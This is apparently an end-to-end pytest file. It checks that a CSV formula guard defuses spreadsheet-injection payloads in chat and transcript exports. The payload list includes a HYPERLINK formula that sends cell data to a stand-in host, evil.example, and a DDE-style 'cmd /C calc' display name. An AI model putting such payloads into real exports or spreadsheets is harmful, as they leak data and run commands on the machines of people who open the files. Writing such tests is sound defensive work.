"""RTK_CSV_FORMULA_GUARD through real servers: off, the chat and transcript CSVs carry the
exact data; on, cells a spreadsheet would run are prefixed with ' and every cell is quoted.
Both servers share one database and data directory, so the second must not serve the file
the first built under the other setting."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from files_scenario import ACCOUNT, _chat, _join, _leave, _segment, ingest, sdk
from support import Server, own_database, running_server

pytestmark = pytest.mark.e2e

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 agreed",
    "-- sent from my phone",
    "@alice see above",
    "\tcmd",
    "\rcmd",
    " =1+1",  # leading space: no spreadsheet runs it, and OWASP's list does not include it
    "a;=1+1",  # `;` separates cells in some locales: quoting keeps it one cell
    "plain text",
]


def meeting(meeting_id: str) -> list[dict[str, Any]]:
    start = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=2)
    second = timedelta(seconds=1)
    events = [_join("j", meeting_id, start, "p1", display_name="=cmd|' /C calc'!A0")]
    events += [
        _chat(f"c{i}", meeting_id, start + (i + 1) * second, "p1", f"m{i}", payload=text)
        for i, text in enumerate(PAYLOADS)
    ]
    events += [_segment("s1", meeting_id, start + 30 * second, "p1", "-2 points for us")]
    return [*events, _leave("l", meeting_id, start + 60 * second, "p1")]


def exported(srv: Server, app: str, meeting_id: str) -> tuple[str, str, str]:
    """(chat link path, chat CSV text, transcript CSV text)."""
    client = sdk(srv, srv.token(ACCOUNT, "read", app=app))
    s = client.realtime_kit.sessions
    [session] = s.get_sessions(app, account_id=ACCOUNT, associated_id=meeting_id).data.sessions
    sid = session.id
    chat = s.get_session_chat(sid, account_id=ACCOUNT, app_id=app).data
    transcript = s.get_session_transcripts(sid, account_id=ACCOUNT, app_id=app, format="CSV").data
    assert chat is not None and transcript is not None
    chat_text = httpx.get(chat.chat_download_url, timeout=30).content.decode()
    transcript_text = httpx.get(transcript.transcript_download_url, timeout=30).content.decode()
    return chat.chat_download_url.split("?")[0], chat_text, transcript_text


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_guard_defuses_formulas_and_the_cache_keeps_the_settings_apart(
    tmp_path: Path,
) -> None:
    app, meeting_id = f"app-{uuid.uuid4().hex[:8]}", str(uuid.uuid4())
    with own_database(tmp_path) as url:
        with running_server(tmp_path, url) as exact:
            ingest(exact, app, meeting(meeting_id))
            exact_path, chat, transcript = exported(exact, app, meeting_id)
        assert [row[8] for row in cells(chat)[1:]] == PAYLOADS
        assert cells(chat)[1][4] == "=cmd|' /C calc'!A0"
        assert [row[4:] for row in cells(transcript)] == [
            ["=cmd|' /C calc'!A0", "-2 points for us"]
        ]

        with running_server(tmp_path, url, RTK_CSV_FORMULA_GUARD="true") as guarded:
            guarded_path, chat, transcript = exported(guarded, app, meeting_id)
    assert guarded_path.rsplit("/files/", 1)[1] != exact_path.rsplit("/files/", 1)[1]
    assert [row[8] for row in cells(chat)[1:]] == [
        "'" + p if p[0] in "=+-@\t\r" else p for p in PAYLOADS
    ]
    assert cells(chat)[1][4] == "'=cmd|' /C calc'!A0"
    assert chat.startswith('"id","participantId",') and '"a;=1+1"' in chat  # all quoted
    assert [row[4:] for row in cells(transcript)] == [["'=cmd|' /C calc'!A0", "'-2 points for us"]]
